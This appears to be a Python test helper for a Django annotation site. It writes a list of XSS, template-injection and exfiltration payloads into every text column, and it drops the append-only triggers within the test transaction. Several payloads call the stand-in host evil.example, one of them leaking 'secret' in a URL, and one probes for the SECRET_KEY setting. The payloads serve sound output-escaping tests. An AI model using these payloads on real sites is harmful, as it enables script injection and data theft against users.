"""Hostile texts, and a site that has them in every text column."""

from collections.abc import Iterator
from typing import Any

from django.apps import apps
from django.db import connection, models
from django.urls import reverse

import builders
from annotation.consensus.close import close_item
from annotation.core.append_only import MODELS as APPEND_ONLY
from annotation.core.append_only import trigger_names
from annotation.domain.choices import Role, Stage
from annotation.models import CompetenceEstimate, Guideline, GuidelineExample, Report, Skip
from annotation.review import adjudicate
from runs.models import Pause, Run
from site_objects import World

WORDS = {
    "B40 a script": "<script>alert(1)</script>",
    "B41 a picture with a handler": "<img src=x onerror=alert(1)>",
    "B41 out of an attribute": "\"><svg/onload=alert(1)>' onmouseover=alert(1) x='",
    "B42 htmx": '<div hx-get="/export" hx-trigger="load"></div>',
    "B43 templates": "{{7*7}} {% debug %} ${7*7} {{ settings.SECRET_KEY }}",
    "B44 out of a form": "</textarea><form action=//evil.example><input name=q>",
    "B47 a picture that tells": "![](http://evil.example/?d=secret) <a href=http://evil.example>x</a>",
    "B48 a file name": '"><img onerror=alert(1)>.png',
    "B49 a name": "<b onclick=alert(1)>Ada</b> & Co.",
    "B50 out of JSON": '{"hotkey":"</script><script>alert(1)</script>"}',
    "B51 a style": "<style>*{background:url(//evil.example)}</style>",
    "B46 Markdown": "[x](javascript:alert(1)) <iframe src=//evil.example></iframe> ![y](//evil.example/z)",
}
KEPT = {
    "sha256", "file_sha256", "body_sha256", "text_sha256", "prompt_digest", "password", "media_type", "pattern",
    "export_key", "verb", "method", "variant", "provider", "key", "kind", "role", "owner", "external_id", "folder",
    "language", "reason of Prior",
}  # fmt: skip
"""Columns that only the site itself writes, or whose characters are checked before they are stored."""


def unguard() -> None:
    """Lift the guard of append-only tables until the transaction of the test or of its module is undone."""
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")
        for name in APPEND_ONLY:
            table = apps.get_model("annotation", name)._meta.db_table
            for trigger in trigger_names(table, connection.vendor):
                on_table = f' ON "{table}"' if connection.vendor == "postgresql" else ""
                cursor.execute(f'DROP TRIGGER IF EXISTS "{trigger}"{on_table}')


def write_everywhere(words: str) -> None:
    """Write the text into every column for texts of people, files or models.

    The guard of append-only tables has to be lifted before.
    """
    with connection.cursor() as cursor:
        for app in ("annotation", "runs"):
            for model in apps.get_app_config(app).get_models():
                for field in written(model):
                    at_most = words[: field.max_length] if field.max_length else words
                    key = model._meta.pk.column
                    once = f" WHERE {key} = (SELECT MIN({key}) FROM {model._meta.db_table})" if in_a_key(field) else ""
                    cursor.execute(f"UPDATE {model._meta.db_table} SET {field.column} = %s{once}", [at_most])


def written(model: type[models.Model]) -> Iterator[models.Field[Any, Any]]:
    for field in model._meta.concrete_fields:
        excluded = {field.name, f"{field.name} of {model.__name__}"} & KEPT
        if type(field) in (models.CharField, models.TextField) and not field.choices and not excluded:
            yield field


def in_a_key(field: models.Field[Any, Any]) -> bool:
    constraints = field.model._meta.constraints
    keys = [constraint.fields for constraint in constraints if isinstance(constraint, models.UniqueConstraint)]
    return field.unique or any(field.name in key for key in keys)


def fill(world: World) -> None:
    """Add rows with texts: an adjudication, a report, a skip, a failed run, a guideline, a pause."""
    project = world.project
    reviewer, person = builders.make_member(project, Role.REVIEWER), world.members[Role.ANNOTATOR]
    disputed = builders.make_labelled_item(project, [builders.make_member(project) for _ in range(3)], [0, 1, 2])
    close_item(disputed)
    disputed.refresh_from_db()
    adjudicate.decide_item(disputed, reviewer, disputed.version, "Because.", builders.category(project, 1), {})
    Skip.objects.create(item=world.open_item, annotator=world.other, reason="x")
    reported = builders.make_item(project, stage=Stage.EXCLUDED, excluded_for="reported")
    Report.objects.create(item=reported, reporter=person, note="x")
    guideline = Guideline.objects.create(project=project, number=2, text="x", summary="x", asks_reading=False)
    GuidelineExample.objects.create(guideline=guideline, text="x", why="x", category=builders.category(project, 1))
    CompetenceEstimate.objects.create(project=project, method="mace", state="failed", problem="x")
    Pause.objects.create(provider="openai", detail="x", until="2100-01-01T00:00:00Z")
    Run.objects.create(
        method="prior", project=project.public_id, subject=world.item.public_id, variant="text", provider="openai",
        detail="x", call_limit=1, token_limit=1, seconds_limit=1,
    )  # fmt: skip
    person.reviews = person.administers = True
    person.save()


def admin_pages(world: World) -> Iterator[str]:
    for model in ("user", "project", "membership", "item", "event", "import", "release"):
        yield reverse(f"admin:annotation_{model}_changelist")
    yield reverse("admin:annotation_item_change", args=[world.item.pk])
    yield reverse("admin:annotation_project_change", args=[world.project.pk])
    yield reverse("admin:annotation_membership_change", args=[world.other.pk])
